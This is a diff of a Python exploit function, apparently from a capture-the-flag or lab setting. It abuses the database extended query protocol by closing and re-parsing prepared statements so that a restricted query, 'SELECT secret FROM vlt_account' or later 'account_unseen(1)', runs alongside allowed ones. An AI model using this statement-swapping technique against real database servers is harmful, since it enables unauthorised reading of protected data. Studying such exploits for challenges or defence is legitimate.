@@ -9,10 +9,7 @@ TIMES = 5
 
 def attack(server: Server) -> bytes:
     run = bind(b"s") + execute()
-    anew = close(b"S", b"s") + parse(b"SELECT secret FROM vlt_account", b"s")
+    anew = close(b"S", b"s") + parse(b"SELECT account_unseen(1)", b"s")
     with server.login() as client:
         ask(client, parse(b"SELECT name FROM customer", b"s"), SYNC)
-        named = ask(client, run * TIMES, anew, run * TIMES, SYNC)
-        other = parse(b"SELECT secret FROM vlt_account") + bind() + execute()
-        unnamed = (parse(b"SELECT name FROM customer") + bind() + execute()) * TIMES
-        return named + ask(client, unnamed, other * TIMES, SYNC)
+        return ask(client, run * TIMES, anew, run * TIMES, SYNC)
